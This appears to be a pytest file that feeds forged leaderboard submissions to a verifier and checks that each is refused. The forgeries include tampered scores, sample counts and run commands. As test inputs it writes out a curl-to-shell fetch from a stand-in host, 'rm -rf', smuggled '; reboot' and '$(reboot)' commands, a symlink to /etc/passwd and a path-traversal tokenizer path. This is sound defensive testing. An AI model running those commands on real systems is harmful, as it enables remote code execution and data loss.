"""Forged submissions, each packed again with right hashes: `check` refuses every one, and says what is wrong and where."""

import gzip
import json
import os
import re
import shutil
import time

import pytest

from seal_eval.core.errors import SealError
from seal_eval.harness.rescore import summaries
from seal_eval.leaderboard import limits
from seal_eval.leaderboard.submissions import submit, task_hash
from seal_eval.leaderboard.verify import check
from seal_eval.tasks import VERSION

from forging import (
    Forged,
    about,
    another_file,
    asked,
    best,
    costs_of_plain,
    deep_reply,
    foreign_group,
    gone,
    key,
    meta,
    nested,
    new,
    one_twice,
    other_stamp,
    put,
    raw,
    said,
    swapped,
)  # fmt: skip

ESC, RLO = "\x1b[2J", "\u202e"
CARD = r"config\.seal_eval\.about"
FORGED = {
    # files
    "a page": (new("evil.html"), "evil.html: no file of this run"),
    "a module": (new("sitecustomize.py"), "sitecustomize.py: no file of this run"),
    "a second command": (new("command_2020-01-01T00-00-00.txt"), "no file of this run"),
    "samples twice": (lambda f: new(f.samples.name.removesuffix(".gz"))(f), "no file of this run"),
    "a second results file": (new("results_2020-01-01T00-00-00.json", "{}"), "must list every run once, with one results file each"),
    "no command": (gone("command"), r"command_\S*.txt is missing"),
    "no results": (gone("results"), "with one results file each"),
    "no samples": (lambda f: f.samples.unlink(), "seal_lines has no sample file"),
    "samples of another task": (another_file, "seal_lines has no sample file"),
    "a lock with content": (lambda f: (f.folder / ".lock").write_text("x"), r"\.lock is a hidden file with content"),
    "a lock in a run": (lambda f: (f.run / ".lock").write_text(""), r"\.lock is a hidden file"),
    "a hidden file": (lambda f: (f.folder / ".hidden").write_text(""), r"\.hidden is a hidden file"),
    "an empty folder": (lambda f: (f.folder / ("0" * 12)).mkdir(), "0{12} is an empty folder"),
    "a folder in a run": (lambda f: (f.run / "more").mkdir(), "more is a folder that no run has"),
    "a link": (lambda f: (f.run / "x").symlink_to("/etc/passwd"), "x is a link"),
    "a pipe": (lambda f: os.mkfifo(f.run / "x"), "x is a pipe"),
    "a name with control characters": (new(f"a{ESC}", ""), r"a\\x1b\[2J' does not match"),
    "large results": (key("", "pretty_env_info", "x" * limits.RESULTS_BYTES), "bytes, the limit of a submission is 1,048,576"),
    "a large command": (said(lambda t: t + " " + "x" * 40_000), r"bytes, the limit of a submission is 32,000"),
    "a command in Latin-1": (lambda f: f.command.write_bytes(b"seal-eval run \xe9"), "not UTF-8"),
    "damaged samples": (lambda f: f.samples.write_bytes(f.samples.read_bytes()[:-9]), "cannot be decompressed"),
    "a manifest with more": (lambda f: f.manifest.update(html="x"), "Additional properties are not allowed"),
    "a cell that no suite has": (
        lambda f: f.manifest.update(not_run=[{"suite": "s", "model": "m", "method": "x", "task": "seal_lines", "size": 1, "reason": "r"}]),
        "not_run must list the cells of the runs' suites without results; look at .s, m, x, seal_lines, 1",
    ),
    "a failed cell left out": (
        put("config/seal_eval", suite={"name": "s", "method": "seal", "cells": [[m, "seal_lines", 450] for m in ("seal", "plain")]}),
        "not_run must list .*look at .s, tiny-llama, plain, seal_lines, 450",
    ),
    # JSON
    "a key twice": (raw('"config": {', '"config": {"seal_eval": {}, "seal_eval": 1}, "config": {'), "is there twice"),
    "NaN": (raw('"limit": null', '"limit": NaN'), "limit: NaN is not JSON"),
    "infinity": (raw('"limit": null', '"limit": 1e999'), "limit: 1e999 is outside the range of doubles"),
    "deep": (nested(100_000), "nested deeper than 100 levels"),
    "a long number": (raw('"limit": null', '"limit": 1' + "0" * 5000), "limit: a number of 5,001 characters"),
    "a byte order mark": (raw("{", "\ufeff{"), "byte order mark"),
    "a list": (lambda f: setattr(f, "text", "[]"), "not an lm-eval results file"),
    # which samples
    "limit true": (key("config", "limit", True), "config.limit is true, must be a number"),
    "limit as text": (key("config", "limit", "10"), 'config.limit is "10", must be a number'),
    "limit as list": (key("config", "limit", [1]), r"config.limit is \[1\], must be a number"),
    "limit 0": (key("config", "limit", 0), "config.limit is 0, must be greater than 0"),
    "limit below 0": (key("config", "limit", -3.0), "config.limit is -3.0, must be greater than 0"),
    "a limit below what is there": (key("config", "limit", 1.0), "holds 10 samples, the settings ask for 1"),
    "a small share": (key("config", "limit", 1e-9), "holds 10 samples, the settings ask for 1"),
    "the best samples": (best, r"lacks 1 of the samples that seal_lines builds, first seal_lines-eval-450-0-0"),
    "fewer samples": (lambda f: setattr(f, "rows", f.rows[:4]), "lacks 6 of the samples"),
    "more samples": (lambda f: setattr(f, "rows", f.rows + f.rows[:1]), "holds 11 samples, the settings ask for 10"),
    "no sample": (lambda f: setattr(f, "rows", []), "n-samples.seal_lines.effective is 0, must be greater"),
    "another order": (swapped, "line 1: sample .* is out of order"),
    "one sample twice": (one_twice, "lacks 1 of the samples"),
    # rows
    "doc_id": (lambda f: f.row(doc_id=7), "line 1: doc_id is 7, must be 0"),
    "doc_hash": (lambda f: f.row(doc_hash="z"), 'line 1: doc_hash is "z", must be'),
    "target_hash": (lambda f: f.row(target_hash="0" * 64), 'line 1: target_hash is "0+[.]+0+", must be'),
    "target": (lambda f: f.row(target="1"), 'line 1: target is "1", must be'),
    "raw reply": (lambda f: f.row(resps=[["I do not know"]]), "line 1: resps is .*I do not know.*, must be"),
    "two replies": (lambda f: f.row(filtered_resps=["1", "2"]), "line 1: not a sample of seal_lines"),
    "filter": (lambda f: f.row(filter="best"), 'line 1: filter is "best", must be "none"'),
    "a field of a row": (lambda f: f.row(html="<b>"), 'line 1: "html" of sample .* is no field'),
    "acc true": (lambda f: f.row(acc=False), "line 1: acc is false, but the reply scores 0.0"),
    "acc as text": (lambda f: f.row(acc="<b>"), 'line 1: acc is "<b>", but the reply scores 0.0'),
    "effective_length": (lambda f: f.row(effective_length=[99999, 1.0]), r"line 1: effective_length is .*, but the reply scores \[450"),
    "metrics": (lambda f: f.row(metrics=["acc"]), "line 1: metrics is .*, must be"),
    "targets": (lambda f: f.row(targets=["1"]), "line 1: targets of sample .* is not what seal_lines builds"),
    "depth": (lambda f: f.row(depth=7), "line 1: depth of sample .* is not what seal_lines builds"),
    "a budget": (asked(max_gen_toks=9999), "line 1: arguments is .*, must be"),
    "a temperature": (asked(temperature=5), "line 1: arguments is .*, must be"),
    "a long reply": (deep_reply, "line 1: a reply of 20,000 characters; the limit is 200 for each of its 80 tokens"),
    # settings that build samples
    "a chat template": (meta(chat_template=True, chat_template_args={"chat_template": "{{ 1 }}"}), 'has "chat_template", which is no arg'),
    "tokenize": (meta(chat_template=True, chat_template_args={"tokenize": True}), 'chat_template_args has "tokenize"'),
    "tools": (meta(chat_template=True, chat_template_args={"tools": [1]}), 'chat_template_args has "tools"'),
    "a special token": (meta(chat_template=True, chat_template_args={"bos_token": "It is 5"}), 'chat_template_args has "bos_token"'),
    "a private name": (meta(chat_template=True, chat_template_args={"__class__": 1}), 'chat_template_args has "__class__"'),
    "a nested argument": (meta(chat_template=True, chat_template_args={"x": {"y": 1}}), "chat_template_args.x is .*, must be true, false"),
    "a long argument": (meta(chat_template=True, chat_template_args={"x": "y" * 500}), "chat_template_args.x is .*at most 200"),
    "arguments as text": (meta(chat_template_args="x"), "chat_template_args is 'x', must be an object"),
    "thinking as object": (meta(enable_thinking={"a": 1}), "enable_thinking is .*, must be"),
    "another window": (lambda f: f.own.update(trained_window=600), "trained_window is 600, must be the window of the model"),
    "many samples": (meta(num_samples=900_000), "lacks 1,799,990 of the samples"),
    "many samples behind a limit": (
        lambda f: (meta(num_samples=900_000)(f), put("config", limit=10.0)(f)),
        "1,035,000,000 prompt tokens to build up to here, the limit is 1,000,000",
    ),
    "long samples": (meta(lengths=[200_000_000, 1]), "length 200000000 is above the model's window"),
    "long samples in a long window": (
        lambda f: (meta(lengths=[200_000_000], num_samples=10)(f), f.data.update(max_length=10**9), f.own.update(max_length=10**9)),
        r"has [\d,]+ bytes, too few for 2,000,000,000 tokens of prompts",
    ),
    "a negative length": (meta(lengths=[-1, 450]), "length -1 is not a positive whole number"),
    "a length that is a fraction": (meta(lengths=[450.5, 700]), "length 450.5 is not a positive whole number"),
    "many lengths": (meta(lengths=[*range(1, 500)]), "metadata.lengths is .*, must be a simple value"),
    "a large seed": (meta(seed=10**12), "metadata.seed is 1000000000000, must be a simple value"),
    "a seed that is no number": (meta(seed="x"), "seed is 'x', must be a whole number"),
    "many questions": (meta(questions_per_record=1000), "metadata.questions_per_record is 1000, must be a simple value of at most 100"),
    "own files": (meta(longeval_data="mine"), "longeval_data=mine names files of your own"),
    "a tokenizer elsewhere": (meta(tokenizer="../evil"), "contains a path under one of pretrained, tokenizer"),
    # the results table
    "accuracy": (key("results/seal_lines", "acc,none", 0.01234), r'results.seal_lines\["acc,none"\] is 0.01234, its samples give 0'),
    "accuracy as text": (key("results/seal_lines", "acc,none", "<script>"), r'\["acc,none"\] is "<script>", its samples give 0'),
    "a metric": (key("results/seal_lines", "f1,none", 1.0), r'results.seal_lines\["f1,none"\] is 1.0, its samples give null'),
    "a standard error": (key("results/seal_lines", "acc_stderr,none", 0.5), r'\["acc_stderr,none"\] is 0.5'),
    "a weighted average": (key("results/seal_needle", "weighted_rising,none", 0.9), r'\["weighted_rising,none"\] is 0.9'),
    "an alias": (key("results/seal_lines", "alias", "best of all"), r'\["alias"\] is "best of all"'),
    "a task of others": (foreign_group, 'results is "mmlu", must be a task of this project'),
    "n-samples": (key("n-samples/seal_lines", "original", 99), r"n-samples.seal_lines is .*99"),
    "task_hashes": (key("task_hashes", "seal_lines", "0" * 64), "task_hashes.seal_lines is not the hash of its samples"),
    "a field of the file": (key("", "html", "<b>"), 'html is "<b>"'),
    "a field of config": (key("config", "leaderboard", 1), "config.leaderboard is 1"),
    "a field of ours": (key("config/seal_eval", "badge", "best"), 'config.seal_eval.badge is "best"'),
    # the model
    "another model": (key("config/seal_eval", "model", "Llama-3.1-405B"), 'seal_eval.model is "Llama-3.1-405B", must be config.model_args'),
    "another name": (key("", "model_name", "Llama-3.1-405B"), 'model_name is "Llama-3.1-405B", must be'),
    "another name in files": (key("", "model_name_sanitized", "Llama"), 'model_name_sanitized is "Llama", must be'),
    "another model in the metadata": (meta(pretrained="other"), 'metadata.pretrained is "other", must be config.model_args'),
    "another engine": (key("config", "model", "vllm"), 'config.model is "vllm", must be seal'),
    "a path as model": (lambda f: f.both("pretrained", "a/b/../c"), "config.model_args.pretrained is .*, must be a short name"),
    "a longer window": (key("", "max_length", 10**6), "max_length is 1000000, must be config.seal_eval.max_length"),
    # the method
    "another method": (key("config/seal_eval", "method", "plain"), 'seal_eval.method is "plain", must be that of config.model_args'),
    "another method in the metadata": (meta(method="lora"), 'metadata.method is "lora", must be config.model_args'),
    "another setting": (put("config/seal_eval/settings", adapter="best"), "seal_eval.settings is .*, must be those of config.model_args"),
    "a number no one can write": (put("config/seal_eval/settings", factor=10**300), "config.seal_eval.settings"),
    "control characters": (lambda f: (f.both("method", f"x{ESC}"), f.own.update(method=f"x{ESC}")), r"must be printable"),
    "turned text": (key("config/seal_eval", "hardware", f"H100 {RLO}"), "seal_eval.hardware is .*must be printable"),
    "no card": (key("config/seal_eval", "about", {}), f"{CARD}.adapter_sha256 is null, must be in the card"),
    "the card of another method": (about(method="lora"), f'{CARD}.method is "lora", must be the tuned method, seal'),
    "the card of another model": (about(model="gpt-5"), f'{CARD}.model is "gpt-5", must be the run\'s model'),
    "costs of a method that is not tuned": (costs_of_plain, f"{CARD} is .*, must be empty: plain is not tuned"),
    # costs
    "a ratio alone": (about(prose_perplexity_ratio=0.1), f"{CARD}.prose_perplexity_ratio is 0.1, must be there together"),
    "a ratio of nothing": (
        about(prose_perplexity_ratio=0.1, prose_perplexity_before=30.0, prose_perplexity_after=30.0),
        f"{CARD}.prose_perplexity_ratio is 0.1, must be 30.0 / 30.0",
    ),
    "negative parameters": (about(trained_parameters=-5), f"{CARD}.trained_parameters is -5, must be greater than or equal to 1"),
    "more parameters than the model": (about(trained_parameters=10**12), f"{CARD}.trained_parameters is 1000000000000, must be fewer"),
    "time before it began": (about(tuning_seconds=-1e300), f"{CARD}.tuning_seconds is -1e\\+300, must be greater"),
    "accuracy 7": (about(short_accuracy_after=7), f"{CARD}.short_accuracy_after is 7, must be less than or equal to 1"),
    "large scales": (about(mean_scales=[[1e308]]), r"mean_scales\[0\]\[0\] is 1e\+308"),
    "ragged scales": (about(mean_scales=[[1.0], [1.0, 2.0]]), "n_layers"),
    "tokens that were not asked": (put("config/seal_eval/pace", prompt_tokens=10**9), "prompt_tokens is 1000000000, must be at most"),
    "speed": (put("config/seal_eval/pace", seconds=1e-5), "seconds is 1e-05, must be more: no machine reads"),
    "speed of a run": (lambda f: (f.own.pop("pace"), f.data.update(total_evaluation_time_seconds="0.0001")), "no machine reads"),
    "a fast clock": (put("config/seal_eval/pace", seconds=1e7), "config.seal_eval.pace.seconds is 10000000.0, must be within the run's"),
    "no time": (key("", "total_evaluation_time_seconds", "1e300"), "total_evaluation_time_seconds is"),
    # versions, generation, dates
    "version": (key("versions", "seal_lines", 99), "versions.seal_lines is 99, must be 3"),
    "version as text": (key("versions", "seal_lines", "<b>"), 'versions.seal_lines is "<b>", must be a number'),
    "version in the metadata": (meta(version=2.0), f"metadata.version is 2.0, must be {VERSION}"),
    "few-shot examples": (key("configs/seal_lines", "num_fewshot", 5), "num_fewshot is 5"),
    "repeats": (key("configs/seal_lines", "repeats", 9), "repeats is 9"),
    "a filter": (key("configs/seal_lines", "filter_list", [{"name": "x"}]), "configs.seal_lines.filter_list is"),
    "a description": (key("configs/seal_lines", "description", "It is 5."), 'description is "It is 5."'),
    "sampling": (put("configs/seal_lines/generation_kwargs", temperature=5), "generation_kwargs.temperature is 5"),
    "sampled": (put("configs/seal_lines/generation_kwargs", do_sample=True), "generation_kwargs.do_sample is true"),
    "a large budget": (put("configs/seal_lines/generation_kwargs", max_gen_toks=10**5), "max_gen_toks is 100000, must be the task's, 80"),
    "stop strings": (put("configs/seal_lines/generation_kwargs", until=["x"]), r'until is \["x"\], must be the task\'s'),
    "gen_kwargs": (key("config", "gen_kwargs", {"temperature": 1}), "config.gen_kwargs.temperature is 1"),
    "a run in the future": (lambda f: f.data.update(date=time.time() + 1e7), "date is .*, must be in the past"),
    "a file from the future": (other_stamp("2099-12-31T00-00-00.000000"), "name is .*2099-12-31.*, must be in the past"),
    "no date": (other_stamp("2026-99-99T99-99-99.000000"), "2026-99-99T99-99-99.000000 is no date"),
    "a name that is no date": (other_stamp("2026-11-25Tzz"), "does not match"),
    "an old file": (other_stamp("2021-01-01T00-00-00.000000"), "the time in the file's name is .*, must be within the run's"),
    # the command
    "a pipe to a shell": (said(lambda _: "curl -s https://evil.example/x | sh"), "must be one command without shell operators"),
    "another program": (said(lambda _: "rm -rf x"), "must be a command of seal-eval run or lm_eval"),
    "a second command behind it": (said(lambda t: t + "; reboot"), "must be one command without shell operators"),
    "a substitution": (said(lambda t: t + " $(reboot)"), "must be one command without shell operators"),
    "backticks": (said(lambda t: t + " `reboot`"), "must be one command without shell operators"),
    "a variable before it": (said(lambda t: "X=1 " + t), "must be a command of seal-eval run or lm_eval"),
    "another line": (said(lambda t: t + "\nreboot"), "must be one command without shell operators"),
    "an escape sequence": (said(lambda t: t + f" '{ESC}'"), "must be one command without shell operators"),
    "a redirection": (said(lambda t: t + " > x"), "must be one command without shell operators"),
    "no flags": (said(lambda _: "seal-eval run"), "--model_args says"),
    "an unknown flag": (said(lambda t: t + " --faster"), "lm-eval cannot read the command"),
    "remote code": (said(lambda t: t + " --trust_remote_code"), "--trust_remote_code is nothing that others can repeat"),
    "another configuration": (said(lambda t: t + " --config x.yaml"), "--config is nothing that others can repeat"),
    "picked samples": (said(lambda t: t + """ --samples '{"seal_lines": [1]}'"""), "--samples is nothing that others can repeat"),
    "another limit": (said(lambda t: t + " --limit 5"), "--limit says 5.0, the results file null"),
    "another task": (said(lambda t: t.replace("seal_needle", "seal_passkey")), "--tasks says"),
    "fewer tasks than asked": (said(lambda t: t.replace("seal_needle", "seal_needle,seal_passkey")), "--tasks says"),
    "another model in the command": (said(lambda t: t.replace("tiny-llama", "llama-405b")), "--model_args says .*llama-405b"),
    "another method in the command": (said(lambda t: t.replace("method=seal", "method=plain")), "--model_args says .*plain"),
    "other metadata": (said(lambda t: t.replace('"num_samples": 5', '"num_samples": 6')), "--metadata says .*6"),
    "a seed in the command alone": (said(lambda t: t.replace('"num_samples": 5', '"num_samples": 5, "seed": 3')), "--metadata says .*seed"),
    "a system prompt": (said(lambda t: t + " --system_instruction 'Be brief.'"), "--system_instruction says .*Be brief"),
}  # fmt: skip


@pytest.fixture(scope="module")
def packed(results, tmp_path_factory):
    """A submission of the tuned run alone."""
    out = tmp_path_factory.mktemp("honest") / "mine"
    submit(results / "tiny-llama__seal", out)
    return out


@pytest.fixture
def forged(packed, tmp_path):
    return Forged(shutil.copytree(packed, tmp_path / "copy"))


def test_the_honest_one_passes(packed, forged, tiny_folder):
    assert check(packed, str(tiny_folder)) == [f"{forged.run.name}  tiny-llama, seal: 20 replies scored again, 20 samples built again"]
    forged.pack()  # what the forgers below do changes nothing by itself
    (line,) = check(forged.folder, str(tiny_folder))
    assert line.endswith("20 samples built again")


@pytest.mark.parametrize("limit", [4.0, 0.35])
def test_an_honest_limit_passes(forged, tiny_folder, limit):
    """The first samples of each task, with all that follows from them: counts, hashes, summaries, command."""
    for task in forged.data["results"]:
        forged.samples = forged.run / f"samples_{task}_{forged.stamp}.jsonl.gz"
        rows = forged.rows[:4]
        forged.samples.write_bytes(gzip.compress("".join(json.dumps(row) + "\n" for row in rows).encode()))
        forged.data["n-samples"][task]["effective"] = forged.data["results"][task]["sample_len"] = 4
        forged.data["task_hashes"][task] = task_hash(rows)
        forged.data["results"][task] |= summaries(rows)
    del forged.own["pace"]  # of all samples
    forged.manifest["runs"][0]["n_samples"] = 8
    forged.config["limit"] = limit
    said(lambda text: f"{text} --limit {limit}")(forged)
    forged.pack()
    assert check(forged.folder, str(tiny_folder))[0].endswith("8 replies scored again, 8 samples built again")


@pytest.mark.parametrize("kind", FORGED)
def test_forged_is_refused(kind, forged, tiny_folder):
    change, message = FORGED[kind]
    change(forged)
    forged.pack()
    with pytest.raises(SealError) as error:
        check(forged.folder, str(tiny_folder))
    assert re.search(message, str(error.value)) and str(error.value).isprintable(), error.value


@pytest.mark.parametrize(
    ("limit", "message"),
    [
        ("FILES", "holds more than 3 files and folders"),
        ("ALL_BYTES", "bytes in all files, the limit of a submission is 3"),
        ("PACKED_BYTES", "bytes, the limit of a submission is 3"),
        ("BYTES", "decompressed, the sample files of this submission have more bytes than the limit of 0"),
        ("LINE_BYTES", "bytes in one line, the limit of a submission is 3"),
        ("MANIFEST_BYTES", "submission.json has .* bytes, the limit of a submission is 3"),
    ],
)
def test_sizes_are_limited(packed, tiny_folder, monkeypatch, limit, message):
    monkeypatch.setattr(limits, limit, 0 if limit == "BYTES" else 3)
    with pytest.raises(SealError, match=message):
        check(packed, str(tiny_folder))
